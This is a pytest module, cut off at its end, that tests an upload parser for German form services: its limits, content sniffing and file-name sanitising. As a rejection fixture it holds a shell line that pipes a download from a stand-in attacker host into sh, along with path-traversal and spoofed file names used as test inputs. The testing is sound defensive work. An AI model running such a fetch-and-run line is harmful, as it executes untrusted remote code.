"""Uploads: streaming multipart parsing, limits, content sniffing, display names."""

from __future__ import annotations

import hashlib
import io
import json
import os
import secrets
import time
import unicodedata
import zipfile
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from datetime import UTC, datetime, timedelta
from itertools import pairwise
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import anyio
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from starlette.applications import Starlette
from starlette.requests import ClientDisconnect, Request
from starlette.responses import JSONResponse, Response
from starlette.routing import Route
from starlette.testclient import TestClient

from form_definitions.fields import DefinitionError
from renderer.uploads import (
    CHUNK_BYTES,
    MAX_NAME_LENGTH,
    FieldPolicy,
    Policies,
    UploadError,
    UploadLimits,
    describe_types,
    format_bytes,
    parse_multipart,
    policies_for_definition,
    policy_for_field,
    remove_stale_uploads,
    safe_display_name,
    sniff_media_type,
    with_matching_extension,
)
from renderer.uploads.filetypes import DOCX, HEIC, HEIF, ODT, PDF, PNG, TIFF, WEBP, ZIP

ROOT = Path(__file__).resolve().parents[2]
SERVICES = ROOT / "form_definitions" / "services"
MIB = 1024 * 1024

PDF_BYTES = b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n" + b"0" * 600 + b"\n%%EOF\n"
JPEG_BYTES = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01" + b"\x00" * 600 + b"\xff\xd9"
PNG_BYTES = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\x00" * 600
EXE_BYTES = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 600  # a Windows program
SCRIPT_BYTES = b"#!/bin/sh\ncurl https://evil.example/x | sh\n"
HTML_BYTES = b"<!DOCTYPE html><script>alert(1)</script>"

NACHWEIS = FieldPolicy(max_bytes=1 * MIB, max_files=1, label="Nachweis")
POLICIES: dict[str, FieldPolicy] = {
    "nachweis": NACHWEIS,
    "belege": FieldPolicy(max_bytes=1 * MIB, max_files=3, label="Belege"),
    "nur_pdf": FieldPolicy(accept=(PDF,), max_bytes=1 * MIB, max_files=1),
    "dokument": FieldPolicy(accept=(PDF, DOCX, ODT), max_bytes=1 * MIB, max_files=1),
}

# --- helpers ----------------------------------------------------------------------------

Part = tuple[str, str | None, bytes, str | None]  # name, filename, content, content type


def run_isolated(fn: Any, *args: Any) -> Any:
    """anyio.run in a thread of its own: the browser tests (Playwright's sync API) keep an
    event loop running in the main thread for the whole session."""
    with ThreadPoolExecutor(max_workers=1) as pool:
        return pool.submit(anyio.run, fn, *args).result()


def multipart(parts: list[Part], boundary: str | None = None) -> tuple[bytes, str]:
    """A multipart/form-data body exactly as a browser builds it (raw UTF-8 names)."""
    boundary = boundary or f"----formwerk{secrets.token_hex(12)}"
    out = io.BytesIO()
    for name, filename, content, content_type in parts:
        out.write(f"--{boundary}\r\n".encode())
        disposition = f'Content-Disposition: form-data; name="{name}"'
        if filename is not None:
            disposition += f'; filename="{filename}"'
        out.write(disposition.encode() + b"\r\n")
        if content_type is not None:
            out.write(f"Content-Type: {content_type}\r\n".encode())
        out.write(b"\r\n" + content + b"\r\n")
    out.write(f"--{boundary}--\r\n".encode())
    return out.getvalue(), f"multipart/form-data; boundary={boundary}"


def make_app(
    tmp_dir: Path, limits: UploadLimits | None = None, policies: Policies = POLICIES
) -> Starlette:
    """A route that parses the post and answers with what it got, as JSON."""

    async def upload(request: Request) -> Response:
        try:
            parsed = await parse_multipart(request, limits or UploadLimits(), policies, tmp_dir)
        except UploadError as exc:
            error = {"message": exc.message, "field": exc.field, "code": exc.code}
            return JSONResponse(
                {"error": error, "fields_before_error": exc.fields}, status_code=exc.status_code
            )
        try:
            files = [
                {
                    "field": f.field,
                    "filename": f.filename,
                    "size": f.size,
                    "sha256": f.sha256,
                    "media_type": f.media_type,
                    "in_tmp_dir": f.path.parent == tmp_dir,
                    "on_disk_sha256": hashlib.sha256(f.path.read_bytes()).hexdigest(),
                }
                for f in parsed.files
            ]
            return JSONResponse({"fields": parsed.fields, "files": files})
        finally:
            parsed.cleanup()

    return Starlette(routes=[Route("/", upload, methods=["POST"])])


@pytest.fixture
def tmp_dir(tmp_path: Path) -> Path:
    return tmp_path / "incoming"


@pytest.fixture
def client(tmp_dir: Path) -> Iterator[TestClient]:
    with TestClient(make_app(tmp_dir), raise_server_exceptions=False) as test_client:
        yield test_client


def post_parts(client: TestClient, parts: list[Part]) -> Any:
    body, content_type = multipart(parts)
    return client.post("/", content=body, headers={"content-type": content_type})


def leftovers(tmp_dir: Path) -> list[str]:
    return sorted(p.name for p in tmp_dir.iterdir()) if tmp_dir.exists() else []


def run_asgi(
    app: Starlette,
    chunks: Iterator[bytes],
    headers: list[tuple[bytes, bytes]],
    on_receive: Callable[[], None] = lambda: None,
) -> tuple[int, dict[str, Any], int]:
    """Drive the app over raw ASGI, feeding the body chunk by chunk as a server does.

    Returns the status, the JSON answer and how many body bytes the app pulled before it
    answered: the TestClient hands over the whole body at once, a real server does not.
    """
    messages: list[dict[str, Any]] = []
    pulled = 0

    async def receive() -> dict[str, Any]:
        nonlocal pulled
        on_receive()
        if messages:  # answered already: what a server reports once the client is gone
            return {"type": "http.disconnect"}
        chunk = next(chunks, None)
        if chunk is None:
            return {"type": "http.request", "body": b"", "more_body": False}
        pulled += len(chunk)
        return {"type": "http.request", "body": chunk, "more_body": True}

    async def send(message: dict[str, Any]) -> None:
        messages.append(message)

    scope = {
        "type": "http",
        "asgi": {"version": "3.0"},
        "http_version": "1.1",
        "method": "POST",
        "scheme": "http",
        "path": "/",
        "raw_path": b"/",
        "root_path": "",
        "query_string": b"",
        "headers": headers,
        "client": ("127.0.0.1", 50000),
        "server": ("testserver", 80),
    }
    run_isolated(app, scope, receive, send)
    body = b"".join(m.get("body", b"") for m in messages[1:])
    return messages[0]["status"], json.loads(body), pulled


def split(body: bytes, cuts: list[int]) -> Iterator[bytes]:
    points = sorted({0, len(body), *(c % (len(body) + 1) for c in cuts)})
    return (body[a:b] for a, b in pairwise(points))


# --- accepted files -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("filename", "content", "media_type"),
    [
        ("Einkommensnachweis.pdf", PDF_BYTES, "application/pdf"),
        ("Foto.JPG", JPEG_BYTES, "image/jpeg"),
        ("scan.png", PNG_BYTES, "image/png"),
    ],
)
def test_accepts_pdf_jpeg_png(
    client: TestClient, tmp_dir: Path, filename: str, content: bytes, media_type: str
) -> None:
    response = post_parts(
        client,
        [("vorname", None, "Jürgen".encode(), None), ("nachweis", filename, content, media_type)],
    )
    assert response.status_code == 200, response.text
    data = response.json()
    assert data["fields"] == [["vorname", "Jürgen"]]
    [file] = data["files"]
    assert file["field"] == "nachweis"
    assert file["filename"] == filename
    assert file["media_type"] == media_type
    assert file["size"] == len(content)
    assert file["sha256"] == file["on_disk_sha256"] == hashlib.sha256(content).hexdigest()
    assert file["in_tmp_dir"]
    assert leftovers(tmp_dir) == []  # the route's cleanup() removed the temp file


def test_accepts_upload_from_a_real_http_client(client: TestClient) -> None:
    # httpx builds the multipart body itself: quoting, boundary and headers as it likes.
    response = client.post(
        "/",
        data={"vorname": "Zoë", "anmerkung": "Zeile 1\r\nZeile 2"},
        files=[
            ("belege", ("a.pdf", PDF_BYTES, "application/pdf")),
            ("belege", ("b.png", PNG_BYTES, "image/png")),
        ],
    )
    assert response.status_code == 200, response.text
    data = response.json()
    assert data["fields"] == [["vorname", "Zoë"], ["anmerkung", "Zeile 1\r\nZeile 2"]]
    assert [(f["filename"], f["media_type"]) for f in data["files"]] == [
        ("a.pdf", "application/pdf"),
        ("b.png", "image/png"),
    ]


def test_file_of_exactly_the_limit_is_accepted(tmp_dir: Path) -> None:
    content = PDF_BYTES + b"0" * (1000 - len(PDF_BYTES))
    policies = {"nachweis": FieldPolicy(max_bytes=1000)}
    with TestClient(make_app(tmp_dir, policies=policies)) as client:
        ok = post_parts(client, [("nachweis", "a.pdf", content, None)])
        too_big = post_parts(client, [("nachweis", "a.pdf", content + b"0", None)])
    assert ok.status_code == 200
    assert too_big.status_code == 413


def test_callable_policies(tmp_dir: Path) -> None:
    def lookup(name: str) -> FieldPolicy | None:
        return NACHWEIS if name.endswith(".nachweis") else None

    with TestClient(make_app(tmp_dir, policies=lookup)) as client:
        ok = post_parts(client, [("kinder.0.nachweis", "a.pdf", PDF_BYTES, None)])
        refused = post_parts(client, [("kinder.0.name", "a.pdf", PDF_BYTES, None)])
    assert ok.status_code == 200
    assert ok.json()["files"][0]["field"] == "kinder.0.nachweis"
    assert refused.status_code == 400
    assert refused.json()["error"]["code"] == "unexpected_file"


# --- the content decides ----------------------------------------------------------------


@pytest.mark.parametrize(
    ("field", "content", "declared", "message"),
    [
        ("nachweis", EXE_BYTES, "application/pdf", "ist kein PDF, JPG oder PNG."),
        ("nachweis", SCRIPT_BYTES, "application/pdf", "ist kein PDF, JPG oder PNG."),
        ("nachweis", HTML_BYTES, "application/pdf", "ist kein PDF, JPG oder PNG."),
        ("nur_pdf", PNG_BYTES, "application/pdf", "ist kein PDF."),
        ("nur_pdf", JPEG_BYTES, "application/pdf", "ist kein PDF."),
    ],
)
def test_spoofed_types_are_refused(
    client: TestClient, tmp_dir: Path, field: str, content: bytes, declared: str, message: str
) -> None:
    response = post_parts(client, [(field, "Bescheid.pdf", content, declared)])
    assert response.status_code == 422
    error = response.json()["error"]
    assert error == {
        "message": f"Die Datei „Bescheid.pdf“ {message}",
        "field": field,
        "code": "file_type",
    }
    assert leftovers(tmp_dir) == []


def test_type_is_refused_before_the_rest_of_the_file_is_read(tmp_dir: Path) -> None:
    # A 10 MB "PDF" that starts with MZ: refused after the first bytes, not at the end.
    body, content_type = multipart([("nachweis", "x.pdf", EXE_BYTES + b"\0" * 10 * MIB, None)])
    limits = UploadLimits(max_request_bytes=20 * MIB)
    chunks = (body[i : i + CHUNK_BYTES] for i in range(0, len(body), CHUNK_BYTES))
    status, data, pulled = run_asgi(
        make_app(tmp_dir, limits), chunks, [(b"content-type", content_type.encode())]
    )
    assert status == 422
    assert data["error"]["code"] == "file_type"
    assert pulled <= 2 * CHUNK_BYTES
    assert leftovers(tmp_dir) == []


@pytest.mark.parametrize(
    ("filename", "content", "expected"),
    [
        ("Foto.png", JPEG_BYTES, "Foto.jpg"),  # a known type's extension is corrected
        ("Bescheid.exe", PDF_BYTES, "Bescheid.exe.pdf"),  # a program's name never stays
        ("Scan vom 12.03.2025", PDF_BYTES, "Scan vom 12.03.2025.pdf"),
        ("scan", PNG_BYTES, "scan.png"),
        ("Bild.jpeg", JPEG_BYTES, "Bild.jpeg"),
    ],
)
def test_extension_follows_the_content(
    client: TestClient, filename: str, content: bytes, expected: str
) -> None:
    response = post_parts(client, [("nachweis", filename, content, "application/octet-stream")])
    assert response.status_code == 200, response.text
    assert response.json()["files"][0]["filename"] == expected


def docx_bytes(*, macros: bool = False) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("_rels/.rels", "<Relationships/>")
        archive.writestr("word/document.xml", "<w:document/>")
        if macros:
            archive.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0")
    return out.getvalue()


def odt_bytes() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("mimetype", ODT, compress_type=zipfile.ZIP_STORED)
        archive.writestr("content.xml", "<office:document-content/>")
    return out.getvalue()


def plain_zip_bytes() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("rechnung.exe", EXE_BYTES)
    return out.getvalue()


@pytest.mark.parametrize(
    ("field", "filename", "content", "status", "media_type"),
    [
        ("dokument", "Antrag.docx", docx_bytes(), 200, DOCX),
        ("dokument", "Antrag.odt", odt_bytes(), 200, ODT),
        ("dokument", "Antrag.docm", docx_bytes(macros=True), 422, None),
        ("dokument", "Antrag.docx", plain_zip_bytes(), 422, None),
        ("nachweis", "Antrag.docx", docx_bytes(), 422, None),  # field takes no office files
        ("dokument", "Antrag.docx", b"PK\x03\x04" + b"\0" * 100, 422, None),  # broken ZIP
    ],
)
def test_zip_based_office_files(
    client: TestClient,
    tmp_dir: Path,
    field: str,
    filename: str,
    content: bytes,
    status: int,
    media_type: str | None,
) -> None:
    response = post_parts(client, [(field, filename, content, "application/octet-stream")])
    assert response.status_code == status, response.text
    if media_type:
        assert response.json()["files"][0]["media_type"] == media_type
    assert leftovers(tmp_dir) == []


# --- limits -------------------------------------------------------------------------------


def test_oversized_file_is_refused_with_413_and_leaves_nothing(
    client: TestClient, tmp_dir: Path
) -> None:
    content = PDF_BYTES + b"0" * (2 * MIB)
    response = post_parts(client, [("nachweis", "gross.pdf", content, "application/pdf")])
    assert response.status_code == 413
    assert response.json()["error"] == {
        "message": "Die Datei „gross.pdf“ ist zu groß: höchstens 1 MB sind erlaubt.",
        "field": "nachweis",
        "code": "file_too_large",
    }
    assert leftovers(tmp_dir) == []


def test_fields_read_before_an_error_come_with_it(client: TestClient, tmp_dir: Path) -> None:
    # So a form can be shown again with what the citizen typed, not emptied.
    response = post_parts(
        client,
        [
            ("vorname", None, b"Ada", None),
            ("nachweis", "gross.pdf", PDF_BYTES + b"0" * 2 * MIB, None),
            ("nachname", None, b"Lovelace", None),
        ],
    )
    assert response.status_code == 413
    assert response.json()["fields_before_error"] == [["vorname", "Ada"]]
    assert leftovers(tmp_dir) == []


def test_global_file_cap_beats_a_generous_policy(tmp_dir: Path) -> None:
    limits = UploadLimits(max_file_bytes=2048)
    policies = {"nachweis": FieldPolicy(max_bytes=10 * MIB)}
    with TestClient(make_app(tmp_dir, limits, policies)) as client:
        response = post_parts(client, [("nachweis", "a.pdf", PDF_BYTES + b"0" * 2000, None)])
    assert response.status_code == 413
    assert "höchstens 2 KB" in response.json()["error"]["message"]


def test_huge_body_is_refused_while_streaming(tmp_dir: Path) -> None:
    """50 MB against a 1 MB limit: refused after about 1 MB, never more on disk."""
    limit = 1 * MIB
    limits = UploadLimits(max_request_bytes=100 * MIB, max_file_bytes=limit)
    boundary = "----formwerkstreamtest"
    head = (
        f'--{boundary}\r\nContent-Disposition: form-data; name="nachweis"; '
        f'filename="riesig.pdf"\r\nContent-Type: application/pdf\r\n\r\n'
    ).encode() + PDF_BYTES

    def body() -> Iterator[bytes]:  # generated lazily: the test holds no 50 MB either
        yield head
        zeros = b"0" * CHUNK_BYTES
        for _ in range(50 * MIB // CHUNK_BYTES):
            yield zeros
        yield f"\r\n--{boundary}--\r\n".encode()

    largest_temp_file = 0

    def measure() -> None:
        nonlocal largest_temp_file
        if tmp_dir.exists():
            sizes = [p.stat().st_size for p in tmp_dir.iterdir()]
            largest_temp_file = max([largest_temp_file, *sizes])

    started = time.monotonic()
    status, data, pulled = run_asgi(
        make_app(tmp_dir, limits),
        body(),
        [(b"content-type", f"multipart/form-data; boundary={boundary}".encode())],
        on_receive=measure,
    )
    assert status == 413
    assert data["error"]["code"] == "file_too_large"
    assert pulled <= limit + 2 * CHUNK_BYTES  # stopped reading right after the limit
    assert largest_temp_file <= limit  # checked before writing: never past the limit
    assert time.monotonic() - started < 5
    assert leftovers(tmp_dir) == []


def test_client_gone_mid_upload_leaves_nothing(tmp_dir: Path) -> None:
    body, content_type = multipart([("nachweis", "a.pdf", PDF_BYTES + b"0" * 500_000, None)])
    messages = iter(
        [
            {"type": "http.request", "body": body[:300_000], "more_body": True},
            {"type": "http.disconnect"},  # the citizen closed the tab
        ]
    )
    seen_temp_file = False

    async def receive() -> dict[str, Any]:
        nonlocal seen_temp_file
        seen_temp_file = seen_temp_file or bool(leftovers(tmp_dir))
        return next(messages)

    async def send(message: dict[str, Any]) -> None:
        pass

    scope = {
        "type": "http",
        "method": "POST",
        "path": "/",
        "headers": [(b"content-type", content_type.encode())],
        "query_string": b"",
    }
    with pytest.raises(ClientDisconnect):
        run_isolated(make_app(tmp_dir), scope, receive, send)
    assert seen_temp_file  # it was being written ...
    assert leftovers(tmp_dir) == []  # ... and is gone


def test_content_length_over_the_cap_fails_before_reading(tmp_dir: Path) -> None:
    limits = UploadLimits(max_request_bytes=1 * MIB)
    status, data, pulled = run_asgi(
        make_app(tmp_dir, limits),
        iter([b"x" * CHUNK_BYTES] * 1000),
        [
            (b"content-type", b"multipart/form-data; boundary=abc"),
            (b"content-length", str(50 * MIB).encode()),
        ],
    )
    assert status == 413
    assert data["error"] == {
        "message": "Die Anfrage ist zu groß: Sie können höchstens 1 MB auf einmal hochladen.",
        "field": None,
        "code": "request_too_large",
    }
    assert pulled == 0


def test_request_cap_counts_streamed_bytes_without_content_length(tmp_dir: Path) -> None:
    limits = UploadLimits(max_request_bytes=300 * 1024, max_file_bytes=10 * MIB)
    policies = {"belege": FieldPolicy(max_bytes=10 * MIB, max_files=3)}
    body, content_type = multipart(
        [("belege", f"{i}.pdf", PDF_BYTES + b"0" * 200_000, None) for i in range(3)]
    )
    chunks = (body[i : i + 10_000] for i in range(0, len(body), 10_000))
    status, data, pulled = run_asgi(
        make_app(tmp_dir, limits, policies), chunks, [(b"content-type", content_type.encode())]
    )
    assert status == 413
    assert data["error"]["code"] == "request_too_large"
    assert pulled <= 300 * 1024 + 10_000
    assert leftovers(tmp_dir) == []


def test_too_many_files_in_the_request(tmp_dir: Path) -> None:
    limits = UploadLimits(max_files=3)
    policies = {"belege": FieldPolicy(max_files=10)}
    with TestClient(make_app(tmp_dir, limits, policies)) as client:
        response = post_parts(client, [("belege", f"{i}.pdf", PDF_BYTES, None) for i in range(4)])
    assert response.status_code == 413
    assert response.json()["error"]["message"] == "Sie können höchstens 3 Dateien hochladen."
    assert leftovers(tmp_dir) == []


@pytest.mark.parametrize(
    ("field", "count", "message"),
    [
        ("nachweis", 2, "Sie können für „Nachweis“ nur eine Datei hochladen."),
        ("belege", 4, "Sie können für „Belege“ höchstens 3 Dateien hochladen."),
    ],
)
def test_too_many_files_for_a_field(
    client: TestClient, tmp_dir: Path, field: str, count: int, message: str
) -> None:
    response = post_parts(client, [(field, f"{i}.pdf", PDF_BYTES, None) for i in range(count)])
    assert response.status_code == 413
    assert response.json()["error"] == {
        "message": message,
        "field": field,
        "code": "too_many_files",
    }
    assert leftovers(tmp_dir) == []


def test_a_full_field_takes_no_more_files(tmp_dir: Path) -> None:
    policies = {"belege": FieldPolicy(max_files=0, label="Belege")}
    with TestClient(make_app(tmp_dir, policies=policies)) as client:
        response = post_parts(client, [("belege", "a.pdf", PDF_BYTES, None)])
    assert response.status_code == 413
    assert "keine weiteren Dateien" in response.json()["error"]["message"]


def test_long_text_field_is_refused(tmp_dir: Path) -> None:
    limits = UploadLimits(max_field_bytes=64 * 1024)
    with TestClient(make_app(tmp_dir, limits)) as client:
        ok = post_parts(client, [("text", None, b"a" * 64 * 1024, None)])
        too_long = post_parts(client, [("text", None, b"a" * (64 * 1024 + 1), None)])
        urlencoded_ok = client.post("/", data={"text": "ä" * 32 * 1024})  # 64 KB in UTF-8
        urlencoded_long = client.post("/", data={"text": "ä" * (32 * 1024 + 1)})
    assert ok.status_code == 200
    assert urlencoded_ok.status_code == 200
    assert urlencoded_ok.json()["fields"] == [["text", "ä" * 32 * 1024]]
    for response in (too_long, urlencoded_long):
        assert response.status_code == 413
        assert response.json()["error"]["code"] == "field_too_long"
        assert response.json()["error"]["field"] == "text"


def test_too_many_fields(tmp_dir: Path) -> None:
    limits = UploadLimits(max_fields=5)
    with TestClient(make_app(tmp_dir, limits)) as client:
        multi = post_parts(client, [(f"f{i}", None, b"x", None) for i in range(6)])
        empty_inputs = post_parts(client, [("nachweis", "", b"", None)] * 6)
        urlencoded = client.post("/", data={f"f{i}": "x" for i in range(6)})
    for response in (multi, empty_inputs, urlencoded):
        assert response.status_code == 413
        assert response.json()["error"]["code"] == "too_many_fields"


# --- empty and missing files ---------------------------------------------------------------


def test_empty_file_input_is_ignored(client: TestClient) -> None:
    # What a browser sends for <input type="file"> with no file chosen.
    response = post_parts(
        client,
        [
            ("vorname", None, b"Ada", None),
            ("nachweis", "", b"", "application/octet-stream"),
            ("belege", "", b"", "application/octet-stream"),
        ],
    )
    assert response.status_code == 200
    assert response.json() == {"fields": [["vorname", "Ada"]], "files": []}


def test_empty_file_with_a_name_is_an_error(client: TestClient, tmp_dir: Path) -> None:
    response = post_parts(client, [("nachweis", "leer.pdf", b"", "application/pdf")])
    assert response.status_code == 422
    assert response.json()["error"] == {
        "message": "Die Datei „leer.pdf“ ist leer.",
        "field": "nachweis",
        "code": "empty_file",
    }
    assert leftovers(tmp_dir) == []


def test_content_without_a_filename_is_refused(client: TestClient) -> None:
    response = post_parts(client, [("nachweis", "", PDF_BYTES, "application/pdf")])
    assert response.status_code == 400
    assert response.json()["error"]["code"] == "no_filename"


# --- file names -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("../../etc/passwd", "passwd.pdf"),
        ("C:\\Windows\\evil.pdf", "evil.pdf"),
        ("\u202efdp.exe", "fdp.exe.pdf"),
        ("..\\..\\boot.ini", "boot.ini.pdf"),
        ("/", "Datei.pdf"),
        ("..", "Datei.pdf"),
        (".htaccess", "htaccess.pdf"),
        ("Antrag\u0000.pdf", "Antrag.pdf"),
    ],
)
def test_path_traversal_names_are_sanitised(
    client: TestClient, tmp_dir: Path, tmp_path: Path, raw: str, expected: str
) -> None:
    response = post_parts(client, [("nachweis", raw, PDF_BYTES, "application/pdf")])
    assert response.status_code == 200, response.text
    [file] = response.json()["files"]
    assert file["filename"] == expected
    assert file["in_tmp_dir"]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["incoming"]  # nothing elsewhere


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("Bescheid.pdf", "Bescheid.pdf"),
        ("/home/ada/Bescheid.pdf", "Bescheid.pdf"),
        ("C:\\Users\\Ada\\Bescheid.pdf", "Bescheid.pdf"),
        ("evil\u202efdp.exe", "evilfdp.exe"),
        ("e\u0301cole.pdf", "école.pdf"),  # NFD (macOS) becomes NFC
        ("   ...versteckt.pdf  ", "versteckt.pdf"),
        ("Zeile\r\nUmbruch\t.pdf", "ZeileUmbruch.pdf"),
        ('Scan 10:30 "neu"?.pdf', "Scan 10_30 _neu__.pdf"),
        ("Datei.pdf.", "Datei.pdf"),
        ("CON.pdf", "_CON.pdf"),
        ("", "Datei"),
        ("\u200b\u202e", "Datei"),
        ("a" * 300 + ".pdf", "a" * (MAX_NAME_LENGTH - 4) + ".pdf"),
    ],
)
def test_safe_display_name(raw: str, expected: str) -> None:
    assert safe_display_name(raw) == expected


_FORBIDDEN = frozenset({"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"})


@given(st.text(max_size=400), st.integers(min_value=1, max_value=300))
def test_safe_display_name_properties(raw: str, max_length: int) -> None:
    name = safe_display_name(raw, max_length)
    assert 1 <= len(name) <= max_length
    assert "/" not in name and "\\" not in name
    assert not any(unicodedata.category(ch) in _FORBIDDEN for ch in name)
    assert not name.startswith((".", " "))
    assert name not in (".", "..")


@given(st.text(max_size=200))
def test_safe_display_name_is_stable(raw: str) -> None:
    name = safe_display_name(raw)
    assert safe_display_name(name) == name


# --- urlencoded and content types ------------------------------------------------------------


def test_urlencoded_post(client: TestClient) -> None:
    body = urlencode(
        [("name", "Müller-Lüdenscheidt"), ("tag", "a"), ("tag", "b"), ("rechnung", "1+1=2 & mehr")]
    )
    response = client.post(
        "/", content=body, headers={"content-type": "application/x-www-form-urlencoded"}
    )
    assert response.status_code == 200
    assert response.json() == {
        "fields": [
            ["name", "Müller-Lüdenscheidt"],
            ["tag", "a"],
            ["tag", "b"],
            ["rechnung", "1+1=2 & mehr"],
        ],
        "files": [],
    }


@settings(max_examples=200, deadline=None)
@given(
    pairs=st.lists(st.tuples(st.text(max_size=12), st.text(max_size=40)), max_size=12),
    cut=st.lists(st.integers(min_value=1, max_value=17), min_size=1, max_size=8),
)
def test_urlencoded_pairs_arrive_whole_however_the_body_is_cut(
    pairs: list[tuple[str, str]], cut: list[int]
) -> None:
    """The urlencoded splitter against the standard library's encoding, in any chunking."""
    from renderer.uploads.parser import _UrlencodedReader

    body = urlencode(pairs).encode()
    reader = _UrlencodedReader(UploadLimits())
    position, index = 0, 0
    while position < len(body):
        size = cut[index % len(cut)]
        reader.feed(body[position : position + size])
        position, index = position + size, index + 1
    parsed = run_isolated(reader.finish)
    assert parsed.fields == pairs


def test_urlencoded_blank_chunks_and_bare_names() -> None:
    from renderer.uploads.parser import _UrlencodedReader

    reader = _UrlencodedReader(UploadLimits())
    reader.feed(b"&&a=1&&bare&=leer&c=%C3%A4+x&")
    assert run_isolated(reader.finish).fields == [
        ("a", "1"),
        ("bare", ""),
        ("", "leer"),
        ("c", "ä x"),
    ]


def test_urlencoded_request_cap(tmp_dir: Path) -> None:
    limits = UploadLimits(max_request_bytes=1000)
    with TestClient(make_app(tmp_dir, limits)) as client:
        response = client.post("/", data={"text": "x" * 2000})
    assert response.status_code == 413
    assert response.json()["error"]["code"] == "request_too_large"


@pytest.mark.parametrize(
    "content_type", ["text/plain", "application/json", "multipart/mixed; boundary=x", None]
)
def test_other_content_types_get_415(client: TestClient, content_type: str | None) -> None:
    headers = {"content-type": content_type} if content_type else {}
    response = client.post("/", content=b'{"a": 1}', headers=headers)
    assert response.status_code == 415
    assert response.json()["error"]["code"] == "unsupported_content_type"


@pytest.mark.parametrize(
    ("body", "content_type"),
    [
        (b"garbage", "multipart/form-data; boundary=abc"),
        (b"--abc\r\nContent-Disposition: form-data\r\n\r\nx\r\n--abc--\r\n", None),
        (b"", "multipart/form-data"),  # no boundary
        (b"--abc\r\nX: y\r\n\r\n", "multipart/form-data; boundary=" + "b" * 300),
    ],
)
def test_malformed_bodies_get_400(
    client: TestClient, tmp_dir: Path, body: bytes, content_type: str | None
) -> None:
    headers = {"content-type": content_type or "multipart/form-data; boundary=abc"}
    response = client.post("/", content=body, headers=headers)
    assert response.status_code == 400
    assert response.json()["error"]["code"] == "malformed"
    assert leftovers(tmp_dir) == []


def test_truncated_upload_is_not_accepted(client: TestClient, tmp_dir: Path) -> None:
    # The closing boundary never came: the last file may be cut short, so nothing counts.
    body, content_type = multipart([("nachweis", "a.pdf", PDF_BYTES, None)])
    response = client.post("/", content=body[:-40], headers={"content-type": content_type})
    assert response.status_code == 400
    assert leftovers(tmp_dir) == []


def test_invalid_utf8_in_a_text_field(client: TestClient) -> None:
    response = post_parts(client, [("name", None, b"M\xfcller", None)])
    assert response.status_code == 400
    assert response.json()["error"]["code"] == "encoding"


def test_uncaught_upload_error_is_an_http_error(tmp_dir: Path) -> None:
    # A route that does not catch UploadError still answers with its status, not a 500.
    async def route(request: Request) -> Response:
        await parse_multipart(request, UploadLimits(), POLICIES, tmp_dir)
        return Response("ok")

    app = Starlette(routes=[Route("/", route, methods=["POST"])])
    with TestClient(app, raise_server_exceptions=False) as client:
        response = client.post("/", content=b"x", headers={"content-type": "text/plain"})
    assert response.status_code == 415


# --- random forms, random chunking -------------------------------------------------------------

field_names = st.from_regex(r"[A-Za-z][A-Za-z0-9_.]{0,20}", fullmatch=True)
field_values = st.text(st.characters(exclude_categories=["Cs"]), max_size=200)


@pytest.fixture(scope="module")
def roundtrip_app(tmp_path_factory: pytest.TempPathFactory) -> tuple[Starlette, Path]:
    tmp_dir = tmp_path_factory.mktemp("roundtrip")
    return make_app(tmp_dir, UploadLimits(max_fields=100)), tmp_dir


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    pairs=st.lists(st.tuples(field_names, field_values), max_size=8),
    files=st.lists(st.binary(max_size=3000), max_size=3),
    cuts=st.lists(st.integers(min_value=0, max_value=20_000), max_size=12),
)
def test_random_multipart_forms_roundtrip(
    roundtrip_app: tuple[Starlette, Path],
    pairs: list[tuple[str, str]],
    files: list[bytes],
    cuts: list[int],
) -> None:
    app, tmp_dir = roundtrip_app
    contents = [PDF_BYTES[:5] + content for content in files]
    parts: list[Part] = [(name, None, value.encode(), None) for name, value in pairs]
    parts += [("belege", f"{i}.pdf", content, None) for i, content in enumerate(contents)]
    body, content_type = multipart(parts)
    status, data, _ = run_asgi(app, split(body, cuts), [(b"content-type", content_type.encode())])
    assert status == 200, data
    assert data["fields"] == [list(pair) for pair in pairs]
    assert [f["sha256"] for f in data["files"]] == [hashlib.sha256(c).hexdigest() for c in contents]
    assert [f["on_disk_sha256"] for f in data["files"]] == [f["sha256"] for f in data["files"]]
    assert leftovers(tmp_dir) == []


@settings(max_examples=60, deadline=None)
@given(
    pairs=st.lists(st.tuples(field_names, field_values), max_size=8),
    cuts=st.lists(st.integers(min_value=0, max_value=5000), max_size=8),
)
def test_random_urlencoded_forms_roundtrip(
    roundtrip_app: tuple[Starlette, Path], pairs: list[tuple[str, str]], cuts: list[int]
) -> None:
    app, _ = roundtrip_app
    body = urlencode(pairs).encode()
    status, data, _ = run_asgi(
        app, split(body, cuts), [(b"content-type", b"application/x-www-form-urlencoded")]
    )
    assert status == 200, data
    assert data["fields"] == [list(pair) for pair in pairs]


# --- sniffing, sizes, words --------------------------------------------------------------------


def _ftyp(major: bytes, *compatible: bytes) -> bytes:
    payload = major + b"\0\0\0\0" + b"".join(compatible)
    return (8 + len(payload)).to_bytes(4, "big") + b"ftyp" + payload + b"\0" * 16


@pytest.mark.parametrize(
    ("head", "expected"),
    [
        (PDF_BYTES, PDF),
        (JPEG_BYTES, "image/jpeg"),
        (PNG_BYTES, PNG),
        (b"II*\x00\x08\x00\x00\x00", TIFF),
        (b"MM\x00*\x00\x00\x00\x08", TIFF),
        (b"RIFF\x24\x00\x00\x00WEBPVP8 ", WEBP),
